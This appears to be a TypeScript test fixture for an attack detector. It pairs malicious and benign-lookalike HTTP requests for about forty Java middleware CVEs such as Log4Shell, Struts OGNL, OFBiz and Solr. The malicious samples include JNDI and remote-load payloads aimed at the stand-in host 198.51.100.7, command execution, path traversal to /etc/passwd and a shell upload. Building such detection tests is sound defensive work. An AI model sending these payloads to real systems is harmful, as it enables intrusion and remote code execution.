/** For each entry a request that is an attempt, and one that only looks like it. Lines end in `\n` here. */
import type { Cases } from './cases.ts';

const cookie = 'k'.repeat(240);

export const javaMiddleware: Cases = {
  'CVE-2021-44228': [
    'GET /\nUser-Agent: ${${::-j}${lower:n}di:ldap://198.51.100.7/a}',
    'GET /docs?q=jndi+lookup+and+${title}',
  ],
  'CVE-2022-22965': [
    'POST /order\n\nclass.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp',
    'POST /order\n\nclass=module&loader=1',
  ],
  'CVE-2022-22963': [
    'POST /functionRouter\nspring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("id")',
    'POST /functionRouter\nspring.cloud.function.definition: upper',
  ],
  'CVE-2022-22947': ['POST /actuator/gateway/routes/a1\n\n{"id":"a1"}', 'POST /gateway/routes/a1'],
  'exposed-spring-actuator': ['GET /actuator/heapdump', 'GET /docs/actuators/heap-dump'],
  'CVE-2022-42889': ['GET /s?q=%24%7Bscript%3Ajavascript%3A1%7D', 'GET /s?q=script:javascript'],
  'CVE-2017-5638': [
    "GET /index.action\nContent-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    'POST /index.action\nContent-Type: multipart/form-data; boundary=a',
  ],
  'CVE-2018-11776': ['GET /%24%7B233%2A233%7D/actionChain1.action', 'GET /{233}/actionChain1.action'],
  'CVE-2017-9805': [
    'POST /orders/3\nContent-Type: application/xml\n\n<map><entry><jdk.nashorn.internal.objects.NativeString><x class="java.lang.ProcessBuilder"/></jdk.nashorn.internal.objects.NativeString></entry></map>',
    'POST /orders/3\nContent-Type: application/xml\n\n<map><entry><string>a</string></entry></map>',
  ],
  'CVE-2017-9791': [
    'POST /integration/saveGangster.action\n\nname=%{1+1}&age=1',
    'POST /integration/saveOrder.action\n\nname=%{1+1}',
  ],
  'CVE-2020-17530': [
    'POST /index.action\n\nid=%25{(#instancemanager=#application["org.apache.tomcat.InstanceManager"])}',
    'POST /index.action\n\nid=instancemanager',
  ],
  'CVE-2013-2251': ['GET /x.action?redirect:%24%7B%23a%3D1%7D', 'GET /x.action?redirect=/home'],
  'CVE-2023-50164': [
    'POST /upload.action\n\n--a\nContent-Disposition: form-data; name="uploadFileName"\n\n../../shell.jsp\n--a--',
    'POST /upload.action\n\n--a\nContent-Disposition: form-data; name="uploadFileName"\n\nshell.txt\n--a--',
  ],
  'CVE-2016-4437': [`GET /\nCookie: rememberMe=${cookie}`, 'GET /\nCookie: rememberMe=true; theme=dark'],
  'CVE-2020-9496': [
    'POST /webtools/control/xmlrpc\n\n<methodCall/>',
    'POST /tools/control/xmlrpc\n\n<methodCall/>',
  ],
  'CVE-2021-26295': [
    'POST /webtools/control/SOAPService\n\n<soapenv:Envelope/>',
    'POST /services/SOAPService\n\n<soapenv:Envelope/>',
  ],
  'CVE-2023-51467': [
    'GET /webtools/control/ping?USERNAME=&PASSWORD=&requirePasswordChange=Y',
    'GET /account/control/ping?USERNAME=a&PASSWORD=b',
  ],
  'CVE-2024-32113': [
    'POST /webtools/control/forgotPassword;/ProgramExport\n\ngroovyProgram=1',
    'POST /webtools/control/ProgramExport\n\ngroovyProgram=1',
  ],
  'CVE-2024-38856': [
    'POST /webtools/control/main/ProgramExport\n\ngroovyProgram=1',
    'POST /webtools/control/main\n\nprogram=export',
  ],
  'CVE-2024-45195': [
    'POST /webtools/control/forgotPassword/viewdatafile\n\nDATAFILE_LOCATION=http://198.51.100.7/a',
    'POST /webtools/control/forgotPassword\n\nUSERNAME=mara',
  ],
  'CVE-2023-46604': [
    'bytes:\x00\x00\x00o\x1f\x01Borg.springframework.context.support.ClassPathXmlApplicationContext\x01\x00\x1ahttp://198.51.100.7/poc.xml',
    'bytes:new ClassPathXmlApplicationContext("beans.xml") in org.springframework.context.support',
  ],
  'CVE-2016-3088': ['PUT /fileserver/a.txt\n\n<% out.println(1); %>', 'GET /files/fileserver-setup.html'],
  'CVE-2018-1000130': [
    'POST /jolokia\n\n{"type":"read","target":{"url":"service:jmx:rmi:///jndi/ldap://198.51.100.7/a"}}',
    'POST /jolokia\n\n{"type":"read","mbean":"java.lang:type=Memory"}',
  ],
  'CVE-2023-25194': [
    'PUT /connectors/a/config\n\n{"database.history.producer.sasl.jaas.config":"com.sun.security.auth.module.JndiLoginModule required"}',
    'PUT /connectors/a/config\n\n{"sasl.jaas.config":"org.apache.kafka.common.security.plain.PlainLoginModule required"}',
  ],
  'CVE-2021-25646': [
    'POST /druid/indexer/v1/sampler\n\n{"filter":{"type":"javascript","function":"function(v){}"}}',
    'POST /datasource/v1/sampler\n\n{"filter":{"type":"javascript"}}',
  ],
  'CVE-2021-29441': [
    'POST /nacos/v1/auth/users?username=a&password=b\nUser-Agent: Nacos-Server',
    'POST /api/v1/auth/users?username=a',
  ],
  'CVE-2021-29442': ['GET /nacos/v1/cs/ops/derby?sql=select+1', 'GET /horses/derby?sql=1'],
  'CVE-2019-17558': [
    'GET /solr/a/select?q=1&wt=velocity&v.template=custom&v.template.custom=%23set($x=1)',
    'GET /solr/a/select?q=template&wt=json',
  ],
  'CVE-2019-0193': [
    'POST /solr/a/dataimport\n\ncommand=full-import&dataConfig=%3CdataConfig%3E%3Cscript%3E',
    'POST /solr/a/dataimport\n\ncommand=status',
  ],
  'CVE-2017-12629': ["GET /solr/a/select?q={!xmlparser v='<!DOCTYPE a>'}", 'GET /solr/a/select?q=xmlparser'],
  'CVE-2021-27905': [
    'GET /solr/a/replication?command=fetchindex&masterUrl=http://198.51.100.7/',
    'GET /solr/a/replication?command=details',
  ],
  'CVE-2020-10199': [
    'POST /service/rest/beta/repositories/go/group\n\n{"group":{"memberNames":["$\\\\A{7*7}"]}}',
    'POST /service/rest/beta/repositories/go/group\n\n{"group":{"memberNames":["central"]}}',
  ],
  'CVE-2024-4956': ['GET /%2F%2F%2F%2F%2F%2F%2F..%2F..%2F..%2Fetc%2Fpasswd', 'GET /files%2Fa%2Fb'],
  'CVE-2019-7238': [
    'POST /service/extdirect\n\n{"action":"coreui_Component","method":"previewAssets"}',
    'POST /service/extdirect\n\n{"action":"coreui_Component","method":"read"}',
  ],
  'CVE-2021-35464': [
    'GET /openam/oauth2/..;/ccversion/Version?jato.pageSession=AKztAAVzcg',
    'GET /version?page=session',
  ],
  'CVE-2023-33246': [
    'bytes:{"code":25,"version":395}filterServerNums=1\nrocketmqHome=-c $@|sh . echo id;',
    'bytes:{"code":105} rocketmq topic',
  ],
  'CVE-2024-23692': [
    'GET /?n=%0A&cmd=id&search=%25xxx%25url%25:%password%}{.exec|{.?cmd.}.}',
    'GET /?search=exec+summary',
  ],
  'CVE-2014-6287': ['GET /?search=%00{.exec|cmd.}', 'GET /?search={x}'],
};
